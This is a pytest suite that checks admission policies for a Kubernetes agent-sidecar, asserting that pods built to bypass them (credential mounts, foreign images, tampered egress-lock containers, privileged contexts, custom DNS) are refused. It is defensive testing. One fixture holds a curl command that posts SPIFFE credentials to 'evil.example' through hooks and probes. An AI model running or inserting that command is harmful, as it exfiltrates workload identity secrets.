"""The ValidatingAdmissionPolicies: every golden injected pod is admitted; each way around
them is refused with its message. Evaluated with a real CEL engine (tests/support)."""

from __future__ import annotations

import copy
import dataclasses
from pathlib import Path

import pytest
import yaml

from sidecar.config import _convert
from sidecar.webhook.lock import admission_params
from sidecar.webhook.settings import WebhookSettings, load_webhook_settings
from tests.support.admission_policy import admit

ROOT = Path(__file__).resolve().parents[2]
TESTDATA = ROOT / "tests/webhook/testdata"
REQUIRED, _, INJECTED, _ = list(
    yaml.safe_load_all((ROOT / "k8s/base/webhook/validatingadmissionpolicy.yaml").read_text())
)
BASE_PARAMS = yaml.safe_load((ROOT / "k8s/base/webhook/admission-params.yaml").read_text())
CASES = sorted(p.stem for p in TESTDATA.glob("*.yaml") if not p.stem.endswith(".injected"))


def _injected(case: str) -> bool:
    outcome = yaml.safe_load((TESTDATA / f"{case}.injected.yaml").read_text())
    annotations = outcome["pod"]["metadata"].get("annotations") or {}
    return outcome["allowed"] and "agent-sidecar.io/status" in annotations


INJECTED_CASES = [case for case in CASES if _injected(case)]


def params(lock: bool, settings: dict | None = None) -> dict:
    """The base params, the lock required or not, the lock's uids from these webhook settings."""
    doc = copy.deepcopy(BASE_PARAMS)
    doc["data"]["egress_lock_required"] = "true" if lock else "false"
    if settings is not None:
        parsed = _convert(WebhookSettings, settings, "", ROOT)
        lock_keys = admission_params(WebhookSettings())
        doc["data"] = {
            k: v
            for k, v in doc["data"].items()
            if k not in lock_keys and not k.startswith(("lock_uid_", "lock_allow_"))
        }
        doc["data"].update(admission_params(parsed))
    return doc


def namespace(name: str = "support", *, enrolled: bool = True, opt_out: bool = False) -> dict:
    labels = {"kubernetes.io/metadata.name": name}
    if enrolled:
        labels["agent-sidecar.io/inject"] = "enabled"
    if opt_out:
        labels["agent-sidecar.io/allow-opt-out"] = "true"
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name, "labels": labels}}


def golden(case: str) -> dict:
    return yaml.safe_load((TESTDATA / f"{case}.injected.yaml").read_text())["pod"]


def test_the_golden_cases_include_injected_pods():
    assert len(INJECTED_CASES) >= 7


@pytest.mark.parametrize("case", INJECTED_CASES)
def test_every_golden_injected_pod_is_admitted(case):
    spec = yaml.safe_load((TESTDATA / f"{case}.yaml").read_text())
    outcome = yaml.safe_load((TESTDATA / f"{case}.injected.yaml").read_text())
    lock = (spec.get("webhook") or {}).get("egress_lock", {}).get("enabled", False)
    case_params = params(lock, spec.get("webhook") or {})
    verdict = admit(INJECTED, outcome["pod"], namespace(spec["namespace"]), case_params)
    assert verdict.in_scope and verdict.allowed, verdict.failures
    verdict = admit(REQUIRED, outcome["pod"], namespace(spec["namespace"]))
    assert verdict.in_scope and verdict.allowed, verdict.failures


def _refused(pod: dict, lock: bool, words: str, **kwargs: str) -> None:
    verdict = admit(INJECTED, pod, namespace(), params(lock), **kwargs)
    assert verdict.in_scope
    assert any(words in failure for failure in verdict.failures), verdict.failures


def test_an_agent_that_mounts_the_spiffe_socket_or_the_state_is_refused():
    for volume, case in (
        ("agent-sidecar-spiffe", "plain-pod"),
        ("agent-sidecar-state", "plain-pod"),
        ("agent-sidecar-state-dsn", "shared-state"),  # the fleet store's DSN
    ):
        pod = golden(case)
        pod["spec"]["containers"][0]["volumeMounts"].append({"name": volume, "mountPath": "/x"})
        _refused(pod, False, "only the agent-sidecar container may mount")


def test_review_1_an_agent_that_mounts_the_telemetry_headers_is_refused():
    """The collector's headers (an API key) are a credential: only the sidecar mounts them."""
    pod = golden("fleet-telemetry")
    assert "agent-sidecar-telemetry" in [v["name"] for v in pod["spec"]["volumes"]]
    pod["spec"]["containers"][0].setdefault("volumeMounts", []).append(
        {"name": "agent-sidecar-telemetry", "mountPath": "/stolen"}
    )
    _refused(pod, False, "only the agent-sidecar container may mount")
    debug = golden("fleet-telemetry")
    debug["spec"]["ephemeralContainers"] = [{"name": "dbg", "image": "busybox", "volumeMounts": [
        {"name": "agent-sidecar-telemetry", "mountPath": "/t"}]}]  # fmt: skip
    _refused(debug, False, "only the agent-sidecar container may mount")


def test_an_agent_with_its_own_spiffe_csi_volume_is_refused():
    pod = golden("plain-pod")
    pod["spec"]["volumes"].append({"name": "mine", "csi": {"driver": "csi.spiffe.io"}})
    pod["spec"]["containers"][0]["volumeMounts"].append({"name": "mine", "mountPath": "/s"})
    _refused(pod, False, "only the agent-sidecar container may mount")


def test_kubectl_debug_cannot_reach_the_credentials():
    pod = golden("plain-pod")
    pod["spec"]["ephemeralContainers"] = [
        {"name": "debugger", "image": "busybox", "volumeMounts": [
            {"name": "agent-sidecar-state", "mountPath": "/state"}
        ]}
    ]  # fmt: skip
    _refused(
        pod,
        False,
        "only the agent-sidecar container may mount",
        operation="UPDATE",
        subresource="ephemeralcontainers",
    )


@pytest.mark.parametrize(
    "image",
    [
        "registry.evil.example/agent-sidecar:0.1.0",
        "ghcr.io/agent-sidecar/agent-sidecar-fork:0.1.0",
        "ghcr.io/agent-sidecar/agent-sidecar",
    ],
)
def test_a_sidecar_image_from_elsewhere_is_refused(image):
    pod = golden("plain-pod")
    pod["spec"]["initContainers"][0]["image"] = image
    _refused(pod, False, "image from the configured repository")
    digest = golden("plain-pod")
    digest["spec"]["initContainers"][0]["image"] = "ghcr.io/agent-sidecar/agent-sidecar@sha256:" + (
        "ab" * 32
    )
    assert admit(INJECTED, digest, namespace(), params(False)).allowed


def test_the_egress_lock_is_required_first_where_required():
    pod = golden("egress-lock-opa")
    assert admit(INJECTED, pod, namespace(), params(True)).allowed
    without = copy.deepcopy(pod)
    without["spec"]["initContainers"].pop(0)
    _refused(without, True, "egress lock is required")
    assert admit(INJECTED, without, namespace(), params(False)).allowed
    moved = copy.deepcopy(pod)
    moved["spec"]["initContainers"].insert(0, {"name": "first", "image": "busybox"})
    _refused(moved, True, "egress lock is required")


AS_INJECTED = "the egress lock container must run as the webhook injects it"


@pytest.mark.parametrize(
    ("case", "change"),
    [
        ("egress-lock-opa", {"args": ["egress-lock", "--help"]}),  # exits before the lock
        ("egress-lock-opa", {"command": ["/bin/sh", "-c", "true"]}),
        ("egress-lock-opa", {"env": [{"name": "PYTHONPATH", "value": "/x"}]}),
        ("egress-lock-opa", {"volumeMounts": [{"name": "x", "mountPath": "/x"}]}),
        ("egress-lock-init", {"args": ["egress-lock", "--allow-uid", "65532", "--allow",
                                       "cidrs=0.0.0.0/0", "--force"]}),
        ("egress-lock-init", {"args": ["egress-lock", "--allow-uid", "1001"]}),
    ],
    ids=["verify-args", "command", "env", "mounts", "init-extra-allow", "init-agent-uid"],
)  # fmt: skip
def test_lock_walkaround_a_tampered_lock_container_is_refused(case, change):
    """Defense in depth (the webhook bypassed): a lock container that exits before the node
    agent locks the pod, runs other code, or installs wider rules."""
    spec = yaml.safe_load((TESTDATA / f"{case}.yaml").read_text())
    case_params = params(True, spec["webhook"])
    pod = golden(case)
    assert admit(INJECTED, pod, namespace(), case_params).allowed
    pod["spec"]["initContainers"][0].update(change)
    verdict = admit(INJECTED, pod, namespace(), case_params)
    assert any(AS_INJECTED in failure for failure in verdict.failures), verdict.failures


@pytest.mark.parametrize(
    "change",
    [
        {"command": ["python3", "-c", "import urllib.request"]},
        {"env": [{"name": "PYTHONSTARTUP", "value": "/x.py"}]},
        {"envFrom": [{"configMapRef": {"name": "mine"}}]},
    ],
    ids=["command", "env", "env-from"],
)
def test_lock_walkaround_the_sidecar_container_runs_no_code_of_the_pods_own(change):
    """It runs as the uid the lock lets out: other code in it would get out."""
    pod = golden("egress-lock-opa")
    sidecar = next(c for c in pod["spec"]["initContainers"] if c["name"] == "agent-sidecar")
    sidecar.update(change)
    _refused(pod, True, "the agent-sidecar container must run as the webhook injects it")


UID = "must set runAsUser (on itself or the pod) to a uid the lock does not let out"
CAPS = "no container may be privileged"


@pytest.mark.parametrize(
    ("context", "words"),
    [
        ({"runAsUser": 65532}, UID),  # the sidecar's uid, declared
        ({"runAsUser": 65533}, UID),  # OPA's
        ({}, UID),  # none: the image's USER decides (distroless :nonroot is 65532)
        ({"runAsUser": 1001, "privileged": True}, CAPS),
        ({"runAsUser": 1001, "capabilities": {"add": ["NET_ADMIN"]}}, CAPS),
        ({"runAsUser": 1001, "capabilities": {"add": ["NET_RAW"]}}, CAPS),
        ({"runAsUser": 1001, "capabilities": {"add": ["cap_net_raw"]}}, CAPS),
        ({"runAsUser": 0, "capabilities": {"add": ["SETUID"]}}, CAPS),
        ({"runAsUser": 0, "allowPrivilegeEscalation": True}, CAPS),
        ({"runAsUser": 0}, CAPS),  # root keeps NET_RAW and SETUID unless dropped
        ({"runAsUser": 0, "capabilities": {"drop": ["NET_RAW"]}}, CAPS),  # setuid(65532)
    ],
    ids=[
        "sidecar-uid", "opa-uid", "image-chosen-uid", "privileged", "net-admin", "net-raw",
        "net-raw-lowercase", "setuid", "privilege-escalation", "root-undropped",
        "root-keeps-setuid",
    ],
)  # fmt: skip
def test_lock_walkaround_an_agent_the_lock_cannot_hold_is_refused(context, words):
    """Finding: the policy only checked a declared runAsUser 65532 and NET_ADMIN/NET_RAW."""
    pod = golden("egress-lock-opa")
    pod["spec"]["containers"][0]["securityContext"] = context
    _refused(pod, True, words)
    assert admit(INJECTED, golden("egress-lock-opa"), namespace(), params(True)).allowed


def test_lock_walkaround_a_pod_level_sidecar_uid_is_refused_unless_the_agent_sets_its_own():
    pod = golden("egress-lock-opa")
    pod["spec"]["securityContext"]["runAsUser"] = 65532
    del pod["spec"]["containers"][0]["securityContext"]["runAsUser"]
    _refused(pod, True, UID)
    pod["spec"]["containers"][0]["securityContext"]["runAsUser"] = 1001
    assert admit(INJECTED, pod, namespace(), params(True)).allowed


@pytest.mark.parametrize(
    "opa",
    [
        {"name": "opa", "image": "registry.example.com/agent:1", "securityContext": {}},
        {"name": "opa", "image": "openpolicyagent/opa:1.4.2-static",
         "args": ["run", "--server", "--set=services.x.url=https://evil.example"],
         "securityContext": {"runAsUser": 65533}},
        {"name": "opa", "image": "openpolicyagent/opa:1.4.2-static", "command": ["/bin/sh"],
         "args": ["run"], "securityContext": {"runAsUser": 65533}},
    ],
    ids=["any-image", "own-args", "own-command"],
)  # fmt: skip
def test_lock_walkaround_a_container_named_opa_gets_no_exemption(opa):
    """Finding: a container named opa skipped the uid check."""
    pod = golden("egress-lock-opa")
    pod["spec"]["containers"].append(opa)
    _refused(pod, True, UID)


def test_lock_walkaround_a_debug_container_must_be_hardened_too():
    pod = golden("egress-lock-opa")
    pod["spec"]["ephemeralContainers"] = [{"name": "debugger", "image": "busybox"}]
    verdict = admit(
        INJECTED, pod, namespace(), params(True), operation="UPDATE",
        subresource="ephemeralcontainers",
    )  # fmt: skip
    assert not verdict.allowed and len(verdict.failures) == 2, verdict.failures
    pod["spec"]["ephemeralContainers"][0]["securityContext"] = {
        "runAsUser": 1001,
        "allowPrivilegeEscalation": False,
        "capabilities": {"drop": ["ALL"]},
    }
    assert admit(
        INJECTED, pod, namespace(), params(True), operation="UPDATE",
        subresource="ephemeralcontainers",
    ).allowed  # fmt: skip


def test_mesh_only_the_named_proxy_may_run_as_the_mesh_uid():
    """Finding: with a mesh the pod was cut off; now its proxy's uid is allowed, by name."""
    settings = {
        "egress_lock": {
            "enabled": True,
            "allow": [
                {"cidrs": ["10.0.0.0/8"], "uids": [1337], "container": "istio-proxy"},
            ],
        }
    }
    proxy = {
        "name": "istio-proxy",
        "image": "istio/proxyv2:1.27.0",
        "securityContext": {
            "runAsUser": 1337,
            "allowPrivilegeEscalation": False,
            "capabilities": {"drop": ["ALL"]},
        },
    }
    pod = golden("egress-lock-opa")
    pod["spec"]["containers"].append(proxy)
    assert admit(INJECTED, pod, namespace(), params(True, settings)).allowed
    # Without the allow, 1337 is an ordinary uid: the proxy is admitted, and stays locked in.
    assert admit(INJECTED, pod, namespace(), params(True)).allowed
    impostor = copy.deepcopy(pod)
    impostor["spec"]["containers"][0]["securityContext"]["runAsUser"] = 1337
    verdict = admit(INJECTED, impostor, namespace(), params(True, settings))
    assert any(UID in failure for failure in verdict.failures), verdict.failures


def test_an_enrolled_namespace_needs_the_sidecar_and_allows_opt_out_only_when_it_says_so():
    pod = yaml.safe_load((TESTDATA / "enrolled-namespace.yaml").read_text())["object"]
    verdict = admit(REQUIRED, pod, namespace())
    assert verdict.failures == (
        "pods in namespaces enrolled in agent-sidecar must run the agent-sidecar container",
    )
    opted_out = copy.deepcopy(pod)
    opted_out["metadata"]["labels"]["agent-sidecar.io/inject"] = "disabled"
    assert not admit(REQUIRED, opted_out, namespace()).allowed
    assert admit(REQUIRED, opted_out, namespace(opt_out=True)).allowed
    # The old opt-out annotation means nothing to the policy either.
    annotated = copy.deepcopy(pod)
    annotated["metadata"]["annotations"] = {"agent-sidecar.io/inject": "false"}
    assert not admit(REQUIRED, annotated, namespace(opt_out=True)).allowed
    assert not admit(REQUIRED, pod, namespace(enrolled=False)).in_scope


def test_the_params_match_the_webhook_configs(tmp_path):
    base = load_webhook_settings(ROOT / "k8s/base/webhook/webhook.yaml")
    prod = load_webhook_settings(ROOT / "k8s/overlays/prod/webhook.yaml")
    data = BASE_PARAMS["data"]
    for settings in (base, prod):
        assert settings.sidecar.image.rsplit(":", 1)[0] == data["image_repository"]
        assert str(settings.sidecar.run_as_user) == data["sidecar_uid"]
        assert settings.spiffe_csi_driver == data["spiffe_csi_driver"]
    assert data["egress_lock_required"] == "false" and not base.egress_lock.enabled
    for settings in (base, prod):
        assert settings.opa.image == data["opa_image"]
        expected = admission_params(settings)
        lock_keys = {
            k: v
            for k, v in data.items()
            if k in expected or k.startswith(("lock_uid_", "lock_allow_"))
        }
        assert lock_keys == expected
    # The prod copy is the base one with the lock on and the shared state store, nothing else.
    assert prod.egress_lock.enabled
    assert prod.sidecar.state_secret == "agent-sidecar-state" and not base.sidecar.state_secret
    unshared = dataclasses.replace(prod.sidecar, state_secret="")
    assert dataclasses.replace(prod, egress_lock=base.egress_lock, sidecar=unshared) == base
    overlay = (ROOT / "k8s/overlays/prod/kustomization.yaml").read_text()
    assert 'path: /data/egress_lock_required\n        value: "true"' in overlay


LOCK_SHAPE = "the egress lock container must run as the webhook injects it"
SIDECAR_SHAPE = "the agent-sidecar container takes no lifecycle hook"
EXEC = {"exec": {"command": ["/bin/sh", "-c", "curl https://evil.example -d @/spiffe"]}}


@pytest.mark.parametrize(
    ("case", "change"),
    [
        ("egress-lock-opa", {"restartPolicy": "Always"}),  # a native sidecar: the agent first
        ("egress-lock-opa", {"lifecycle": {"postStart": EXEC}}),
        ("egress-lock-opa", {"startupProbe": EXEC}),
        ("egress-lock-opa", {"readinessProbe": EXEC}),
        ("egress-lock-opa", {"livenessProbe": EXEC}),
        ("egress-lock-opa", {"workingDir": "/tmp"}),
        ("egress-lock-opa", {"securityContext": {"runAsUser": 1001}}),
        ("egress-lock-opa", {"securityContext": {}}),
        ("egress-lock-init", {"securityContext": {"runAsUser": 65532}}),
        ("egress-lock-init", {"args": ["egress-lock", "--allow-uid", "65532", "--allow-uid",
                                       "65533"]}),  # OPA's uid let out everywhere
    ],
    ids=["restart-always", "post-start", "startup-exec", "readiness-exec", "liveness-exec",
         "working-dir", "other-uid", "no-uid", "init-not-root", "init-opa-anywhere"],
)  # fmt: skip
def test_review_reshaped_lock_container_is_refused(case, change):
    """MEDIUM: with the webhook bypassed, the lock container could become a native sidecar
    (the agent then starts before the lock) or run the pod's commands (lifecycle hooks, exec
    probes) as the sidecar's uid, the one the lock lets out."""
    spec = yaml.safe_load((TESTDATA / f"{case}.yaml").read_text())
    case_params = params(True, spec["webhook"])
    pod = golden(case)
    assert admit(INJECTED, pod, namespace(), case_params).allowed
    pod["spec"]["initContainers"][0].update(change)
    verdict = admit(INJECTED, pod, namespace(), case_params)
    assert any(LOCK_SHAPE in failure for failure in verdict.failures), verdict.failures


@pytest.mark.parametrize(
    "change",
    [
        {"lifecycle": {"postStart": EXEC}},
        {"lifecycle": {"preStop": EXEC}},
        {"startupProbe": EXEC},
        {"readinessProbe": EXEC},
        {"livenessProbe": EXEC},
        {"livenessProbe": {"exec": {"command": ["agent-sidecar", "serve", "--config", "/x"]}}},
    ],
    ids=["post-start", "pre-stop", "startup-exec", "readiness-exec", "liveness-exec",
         "other-cli"],
)  # fmt: skip
@pytest.mark.parametrize("lock", [True, False])
def test_review_sidecar_runs_no_command_of_the_pods_own(change, lock):
    """MEDIUM: a lifecycle hook or an exec probe on agent-sidecar ran the pod's command as the
    sidecar (its uid the lock lets out, its SVID at hand): refused, lock or not."""
    case = "egress-lock-opa" if lock else "native-off"
    pod = golden(case)
    sidecar = next(
        c
        for c in pod["spec"].get("initContainers", []) + pod["spec"]["containers"]
        if c["name"] == "agent-sidecar"
    )
    sidecar.update(change)
    _refused(pod, lock, SIDECAR_SHAPE)


def test_review_sidecar_probes_as_injected_are_admitted():
    """The injected probes: grpc (health_port) or `agent-sidecar health` (health_port 0)."""
    pod = golden("egress-lock-opa")
    sidecar = next(c for c in pod["spec"]["initContainers"] if c["name"] == "agent-sidecar")
    health = {"exec": {"command": ["agent-sidecar", "health", "--addr", "unix:///x.sock"]}}
    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
        sidecar[probe] = health
    assert admit(INJECTED, pod, namespace(), params(True)).allowed


@pytest.mark.parametrize(
    "change",
    [
        {"lifecycle": {"postStart": EXEC}},
        {"livenessProbe": EXEC},
        {"args": ["run", "--server", "--addr=127.0.0.1:8181", "--config-file=/config/opa.yaml"]},
        {"securityContext": {"runAsUser": 65532}},
    ],
    ids=["post-start", "exec-probe", "tcp-api", "sidecar-uid"],
)
def test_review_opa_reshaped_loses_its_exemption(change):
    """HIGH: OPA is exempt from the uid check only as injected: API on its socket (never the
    pod's loopback), no command of the pod's own, its own uid."""
    pod = golden("egress-lock-opa")
    opa = next(c for c in pod["spec"]["initContainers"] if c["name"] == "opa")
    opa.update(change)
    _refused(pod, True, UID)


def test_review_opa_only_the_sidecar_and_opa_mount_its_socket():
    """HIGH: OPA's API has no authentication; an agent mounting its socket could ask it."""
    for lock in (True, False):
        pod = golden("egress-lock-opa")
        mount = {"name": "agent-sidecar-opa-socket", "mountPath": "/run/opa"}
        pod["spec"]["containers"][0].setdefault("volumeMounts", []).append(mount)
        _refused(pod, lock, "only the agent-sidecar and opa containers may mount OPA's socket")


@pytest.mark.parametrize(
    "spec_change",
    [{"dnsPolicy": "None", "dnsConfig": {"nameservers": ["203.0.113.53"]}},
     {"dnsConfig": {"nameservers": ["203.0.113.53"]}}],
    ids=["dns-policy-none", "extra-nameservers"],
)  # fmt: skip
def test_review_dns_a_pod_naming_its_own_nameservers_is_refused(spec_change):
    """MEDIUM: in dns: resolvers, the pod's resolv.conf chose where port 53 went."""
    settings = {"egress_lock": {"enabled": True, "dns": "resolvers", "dns_servers": ["10.96.0.10"]}}
    pod = golden("egress-lock-opa")
    pod["spec"].update(spec_change)
    verdict = admit(INJECTED, pod, namespace(), params(True, settings))
    assert any("resolves through the cluster DNS" in f for f in verdict.failures), verdict.failures
    # Without DNS let out, the pod's resolver choice widens nothing.
    assert admit(INJECTED, pod, namespace(), params(True)).allowed


def test_review_dns_init_lock_takes_only_the_configured_dns_servers():
    spec = yaml.safe_load((TESTDATA / "egress-lock-init.yaml").read_text())
    case_params = params(True, spec["webhook"])
    pod = golden("egress-lock-init")
    assert admit(INJECTED, pod, namespace(), case_params).allowed
    args = pod["spec"]["initContainers"][0]["args"]
    args[args.index("--dns-server") + 1] = "203.0.113.53"
    verdict = admit(INJECTED, pod, namespace(), case_params)
    assert any(LOCK_SHAPE in failure for failure in verdict.failures), verdict.failures
